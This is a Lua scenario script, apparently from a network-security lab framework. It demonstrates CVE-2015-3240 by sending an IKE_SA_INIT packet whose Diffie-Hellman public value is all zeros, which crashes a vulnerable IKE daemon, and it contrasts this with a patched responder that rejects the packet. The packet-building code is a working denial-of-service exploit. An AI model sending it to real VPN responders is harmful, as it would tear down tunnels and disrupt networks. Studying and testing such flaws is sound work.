-- One datagram with a public value of zero. For most groups that makes the shared secret zero, whatever the other side draws; a careful
-- implementation refuses it (RFC 6989). One of history did not live to refuse anything.
attack = {
  id = "CVE-2015-3240", name = "zero-ke",
  about = "Sends IKE_SA_INIT whose KE payload is all zero",
  position = "off-path",
  needs = "to reach the responder",
  source = "CVE-2015-3240; RFC 6989, 2",
  shows = {
    vulnerable = "the daemon asserts, dies, and starts again: every tunnel is gone",
    hardened = "the value is out of range: the request is refused, and the tunnels live on",
  },
  scenarios = { vulnerable = "zero-ke", hardened = "zero-ke-patched" },
}

-- Parameters: target, own, at = "6s"
local p, answer
function on_start(params)
  p = params
  assert(p.target and p.own, "parameters target, own")
  timer.after(p.at or "6s", "send")
end

local proposal = { number = 1, protocol = 1, spi = "", transforms = {
  { type = 1, id = 20, key_bits = 256 }, { type = 2, id = 5 }, { type = 4, id = 31 } } }
local spi = bytes.hex(crypto.random(8))

function on_timer()
  mark("One datagram: a public value of zero.")
  inject{ src = p.own, src_port = 500, dst = p.target, dst_port = 500, protocol = "IKE", note = "IKE_SA_INIT with a public value of zero",
    payload = ike.encode{ spi_i = spi, spi_r = "0000000000000000", exchange = 34, initiator = true, message_id = 0,
      payloads = { ike.sa(proposal), { number = 34, body = string.pack(">I2I2", 31, 0) .. string.rep("\0", 32) }, ike.nonce(crypto.random(32)) } } }
end

on({ exchange = "IKE_SA_INIT", response = true }, function(_, message)
  if message.spi_i == spi then answer = #message.payloads > 0 and message.payloads[1].notify_name or "an answer" end
end)

function on_finish()
  achieved("take the daemon down", answer == nil, answer and "it answered " .. answer .. ": the value was looked at" or "no answer ever came: nobody lived to write one")
end
